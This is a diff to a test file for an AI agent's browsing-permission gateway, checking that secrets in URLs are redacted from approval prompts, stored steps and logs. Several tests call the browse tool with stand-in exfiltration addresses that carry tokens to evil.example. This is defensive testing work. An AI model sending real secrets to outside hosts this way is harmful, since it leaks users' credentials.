@@ -1,7 +1,9 @@
 """Which addresses a planner may open: what the owner wrote and handles of the same run. Everything else is asked about first."""
 
 import json
+import sqlite3
 from collections.abc import Iterator
+from contextlib import closing
 from uuid import uuid4
 
 import pytest
@@ -9,10 +11,10 @@ from asgiref.sync import async_to_sync
 from constance.utils import get_values
 from django.utils import timezone
 
-from agents import gateway
+from agents import gateway, steps
 from agents.handles import Handles, HandleUnknown
 from agents.llm import ToolRequest
-from agents.models import Run
+from agents.models import Run, Step
 from agents.permits import Content, Context, Parked
 from devices import protocol as p
 from devices.grants import set_grant
@@ -162,6 +164,30 @@ def test_an_address_that_cannot_be_shown_in_full_is_refused(context: Context) ->
     assert not Ask.objects.exists()
 
 
+def test_what_looks_like_a_secret_is_not_shown_and_each_secret_is_asked_about_anew(context: Context) -> None:
+    for secret in ("hunter2hunter2", "hunter3hunter3"):
+        with pytest.raises(Parked):
+            call(context, f"https://evil.example/a/b?lang=en&token={secret}&page=2")
+    shown = "Open an address that you did not write? https://evil.example/a/b?lang=en&page=2"
+    assert [ask.text for ask in Ask.objects.all()] == [f"{shown} (21 characters of it look like a secret and are not shown.)"] * 2
+    Ask.objects.filter(pk=Ask.objects.earliest("created_at").pk).update(state="allowed")
+    with pytest.raises(Parked) as parked:
+        call(context, "https://evil.example/a/b?lang=en&token=hunter3hunter3&page=2")
+    assert parked.value.ask.state == "open"
+
+
+def test_a_step_keeps_no_secret_of_an_address_and_without_that_rule_it_does(context: Context, monkeypatch: pytest.MonkeyPatch) -> None:
+    url = "https://evil.example/?lang=en&token=hunter2"
+    with pytest.raises(Parked):
+        call(context, url)
+    assert [json.loads(step.request["arguments"]) for step in Step.objects.all()] == [{"url": "https://evil.example/?lang=en"}]
+    for module in (gateway, steps):
+        monkeypatch.setattr(module, "json_to_store", lambda value: value)
+    with pytest.raises(Parked):
+        call(context, url)
+    assert "hunter2" in Step.objects.latest("id").request["arguments"]
+
+
 def test_a_site_that_the_owner_blocked_is_not_asked_about(context: Context) -> None:
     set_grant("evil.example", "read", "blocked")
     assert call(context, STRANGE[0]) == {"error": "blocked"}
@@ -203,7 +229,7 @@ def obey(model: ModelServer, *urls: str) -> None:
 
 
 def test_an_ask_is_shown_everywhere_ends_as_not_now_and_is_kept(penny: Penny, client: Client, model: ModelServer) -> None:
-    word = uuid4().hex
+    word = f"heron{uuid4().hex[:8]}"
     obey(model, f"https://evil.example/?q={word}", f"{URL}?q={word}")
     penny.set("ASK_S", 1)
     try:
@@ -232,6 +258,23 @@ def test_an_approved_address_is_opened_as_it_was_shown(client: Client, model: Mo
     opened = [call.arguments for call in client.seen(p.ToolCall)]
     assert [call.url for call in opened if isinstance(call, p.BrowseUrlArguments)] == ["https://coffee.example/grind"]
     assert ask.text.endswith(" https://coffee.example/grind")
+
+
+def test_no_row_holds_the_secrets_of_an_address_that_was_opened(penny: Penny, client: Client, model: ModelServer) -> None:
+    secret = f"hunter{uuid4().hex[:8]}"
+    opened = [f"https://coffee.example/grind?a=1&token={secret}", f"coffee.example/grind?sid={secret}"]
+    obey(model, *opened)
+    client.tools.update(browser({url: page(url, GRIND.title, GRIND.text) for url in (opened[0], f"https://{opened[1]}")}))
+    turn = client.say("How fine should I grind?")
+    for number in (1, 2):
+        ask = client.expect(p.ApprovalAsk, count=number)
+        client.send(p.ApprovalAnswer(request_id=ask.request_id, decision="allow"))
+    client.expect(p.TurnDone, 20, turn_id=turn)
+    calls = [call.arguments for call in client.seen(p.ToolCall) if isinstance(call.arguments, p.BrowseUrlArguments)]
+    assert {call.url for call in calls} == {opened[0], f"https://{opened[1]}"}
+    with closing(sqlite3.connect(penny.data / "penny.sqlite3", timeout=20)) as database:
+        assert [row for row in database.iterdump() if secret in row] == []
+    assert secret not in penny.logs()
 
 
 def test_a_handle_of_an_earlier_turn_opens_nothing(client: Client, model: ModelServer) -> None:
